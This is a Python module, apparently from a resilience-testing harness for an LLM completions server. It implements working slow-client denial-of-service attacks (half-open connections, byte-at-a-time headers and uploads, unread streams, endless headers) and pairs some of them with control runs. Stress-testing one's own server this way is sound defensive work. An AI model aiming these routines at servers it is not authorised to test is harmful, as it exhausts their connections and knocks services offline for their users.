"""Clients that are slow, or say too much before they say anything."""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable

from _attacks import Attack

_HEAD = b"POST /v1/completions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
_PROMPT = b'{"prompt": "Once", "max_tokens": 400, "ignore_eos": true, "stream": true, "logprobs": 5}'


def _held(count: int, first: bytes, then: Callable[[int], bytes], every_s: float) -> Attack:
    """`count` connections that say `first`, and then `then(n)` for the n-th time every so often; those that
    the server closes are opened again."""

    def attack(host: str, port: int, seconds: float) -> None:
        end = time.monotonic() + seconds
        connections: list[socket.socket] = []
        number = 0
        while time.monotonic() < end:
            number += 1
            kept = []
            for connection in connections:
                try:
                    connection.setblocking(False)
                    connection.send(then(number))
                    kept.append(connection)
                except BlockingIOError:
                    kept.append(connection)
                except OSError:
                    connection.close()
            connections = kept
            while len(connections) < count and time.monotonic() < end:
                with contextlib.suppress(OSError):
                    connection = socket.create_connection((host, port), timeout=1.0)
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    connection.sendall(first)
                    connections.append(connection)
            time.sleep(every_s)
        for connection in connections:
            connection.close()

    return attack


def _endless(line: Callable[[int], bytes]) -> Attack:
    """One connection after the other that sends headers for as long as it may."""

    def attack(host: str, port: int, seconds: float) -> None:
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=5.0) as one:
                one.sendall(b"GET /health HTTP/1.1\r\nhost: localhost\r\n")
                number = 0
                while time.monotonic() < end:
                    number += 1
                    one.sendall(line(number))

    return attack


ATTACKS: dict[str, Attack] = {
    "http: 300 half-open connections": _held(300, b"", lambda n: b"", 0.5),
    "http: 300 heads, a byte at a time": _held(300, b"GET /health HTTP/1.1\r\nx-a: ", lambda n: b"a", 0.2),
    "http: 300 uploads, a byte at a time": _held(
        300, _HEAD + b"content-length: 100000\r\n\r\n", lambda n: b" ", 0.2
    ),
    "http: 50 streams that nobody reads": _held(
        50, _HEAD + b"content-length: %d\r\n\r\n" % len(_PROMPT) + _PROMPT, lambda n: b"", 0.5
    ),
    "http: headers without end": _endless(lambda n: b"".join(b"x-%d-%d: a\r\n" % (n, i) for i in range(200))),
    "http: one header without end": _endless(lambda n: (b"x-a: " if n == 1 else b"") + b"a" * 65536),
}

CONTROLS = {
    "http: 50 streams that nobody reads": "control: 50 x streams with log-probabilities",
    "http: one header without end": "control: 4 MiB bodies, dropped",
    "http: headers without end": "control: 4 MiB bodies, dropped",
}
